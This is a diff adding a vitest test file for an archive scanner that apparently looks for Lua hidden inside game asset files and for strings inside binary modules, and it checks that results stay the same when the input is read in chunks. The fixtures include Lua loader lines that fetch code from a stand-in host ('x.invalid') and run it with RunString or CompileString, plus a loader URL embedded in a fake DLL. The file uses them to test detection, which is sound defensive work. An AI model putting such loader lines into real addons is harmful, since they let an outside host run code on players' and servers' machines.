@@ -1,0 +1,148 @@
+// One entry's analysis fed in chunks: whatever the cuts between chunks, an asset gives up the
+// same hidden Lua and a binary module the same strings as when its bytes come in one piece.
+import { describe, expect, it } from 'vitest';
+import { buildPeModule } from './archiveFixtures.js';
+import { analyseEntry } from './entryAnalysis.js';
+import { ReadingContext, resolveLimits } from './readingContext.js';
+import type { ArchiveEntry } from './types.js';
+
+const text = (s: string): Uint8Array => new TextEncoder().encode(s);
+const decode = (b: Uint8Array | undefined): string => new TextDecoder().decode(b);
+
+/** Binary bytes no text run is made of (NUL, control bytes, ≥ 0x80), from a fixed seed. */
+function noise(length: number, seed: number): Uint8Array {
+  const out = new Uint8Array(length);
+  let x = seed;
+  for (let i = 0; i < length; i++) {
+    x = (x * 1103515245 + 12345) >>> 0;
+    const v = x >>> 24;
+    out[i] = v >= 0x80 ? v : v & 0x07;
+  }
+  return out;
+}
+
+function concat(parts: Uint8Array[]): Uint8Array {
+  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
+  let at = 0;
+  for (const p of parts) {
+    out.set(p, at);
+    at += p.length;
+  }
+  return out;
+}
+
+/** The bytes cut at the given offsets. */
+function cut(bytes: Uint8Array, offsets: number[]): Uint8Array[] {
+  const chunks: Uint8Array[] = [];
+  let from = 0;
+  for (const at of [...offsets].sort((a, b) => a - b)) {
+    chunks.push(bytes.subarray(from, at));
+    from = at;
+  }
+  chunks.push(bytes.subarray(from));
+  return chunks;
+}
+
+async function analyse(path: string, chunks: Iterable<Uint8Array>): Promise<ArchiveEntry> {
+  const ctx = new ReadingContext(resolveLimits());
+  const onlyCounted = await analyseEntry(ctx, path, 0, chunks);
+  expect(ctx.entries).toHaveLength(1);
+  expect(onlyCounted).toBe(ctx.entries[0]!.kind === 'asset');
+  return ctx.entries[0]!;
+}
+
+const LOADER = 'http.Fetch("https://x.invalid/p", function(b) RunString(b) end) -- first\n';
+const SECOND = 'local f = CompileString(net.ReadString(), "x") f() -- second payload here\n';
+const PROSE = 'A long printable run with no Lua word in it at all, only plain prose.';
+
+describe('analyseEntry on an asset in chunks', () => {
+  const payload1At = 5000;
+  const asset = concat([
+    noise(payload1At, 1),
+    text(LOADER),
+    noise(70_000, 2),
+    text(PROSE),
+    noise(3000, 3),
+    text(SECOND), // runs to the end of the file
+  ]);
+
+  it('keeps each run holding a Lua word once, in file order', async () => {
+    const whole = await analyse('materials/logo.png', [asset]);
+    expect(whole.kind).toBe('lua_in_asset');
+    expect(whole.size).toBe(asset.length);
+    expect(decode(whole.bytes)).toBe(`${LOADER}\n${SECOND}\n`);
+    expect(whole.sha256).toMatch(/^[0-9a-f]{64}$/);
+  });
+
+  it('gives the same result whatever the cuts, inside words and runs included', async () => {
+    const whole = await analyse('materials/logo.png', [asset]);
+    const end = asset.length;
+    const cuts = [
+      [payload1At + 1],
+      [payload1At + 10, payload1At + 11, payload1At + 12],
+      [payload1At - 1, payload1At + LOADER.length],
+      [end - 1],
+      [end - SECOND.length + 3, end - 20],
+      Array.from({ length: 200 }, (_, i) => (i * 7919) % end),
+      Array.from({ length: end / 1000 }, (_, i) => i * 1000),
+    ];
+    for (const offsets of cuts) {
+      const chunked = await analyse('materials/logo.png', cut(asset, offsets));
+      expect(chunked).toEqual(whole);
+    }
+  });
+
+  it('finds a Lua word deep inside a printable run longer than what is carried between chunks', async () => {
+    const filler = 'x = 1 + 2 '.repeat(15_000); // 150 000 printable bytes, no Lua word
+    const bytes = concat([noise(100, 4), text(filler), text(LOADER), noise(100, 5)]);
+    const chunks = cut(
+      bytes,
+      Array.from({ length: 150 }, (_, i) => i * 1024 + 17),
+    );
+    const entry = await analyse('sound/loop.wav', chunks);
+    expect(entry.kind).toBe('lua_in_asset');
+    expect(decode(entry.bytes)).toContain('RunString(b)');
+  });
+
+  it('keeps nothing from noise, short runs or Lua words in runs too short', async () => {
+    const bytes = concat([noise(4000, 6), text('function x'), noise(4000, 7), text(PROSE)]);
+    for (const chunks of [[bytes], cut(bytes, [4003, 4005, 8010])]) {
+      const entry = await analyse('models/crate.mdl', chunks);
+      expect(entry).toEqual({
+        path: 'models/crate.mdl',
+        size: bytes.length,
+        depth: 0,
+        kind: 'asset',
+      });
+    }
+  });
+});
+
+describe('analyseEntry on a binary module in chunks', () => {
+  it('finds the same printable strings whatever the cuts', async () => {
+    // Past the first 4 KiB (read whole to sniff), the strings come in the cut chunks.
+    const module = concat([
+      buildPeModule(['gmod13_open']),
+      noise(5000, 8),
+      text('\0https://loader.invalid/s.php\0\x01'),
+      text('a'.repeat(300)), // longer than a kept string
+      noise(10, 9),
+      text('short\0tail_string_at_the_end'),
+    ]);
+    const whole = await analyse('lua/bin/gmsv_x_win32.dll', [module]);
+    expect(whole.kind).toBe('binary_module');
+    expect(whole.strings).not.toContain('short');
+    expect(whole.strings).toEqual(
+      expect.arrayContaining([
+        'gmod13_open',
+        'https://loader.invalid/s.php',
+        'a'.repeat(256),
+        'tail_string_at_the_end',
+      ]),
+    );
+    const everyByte = Array.from({ length: module.length - 1 }, (_, i) => i + 1);
+    for (const offsets of [everyByte, everyByte.filter((i) => i % 5 === 0)]) {
+      expect(await analyse('lua/bin/gmsv_x_win32.dll', cut(module, offsets))).toEqual(whole);
+    }
+  });
+});
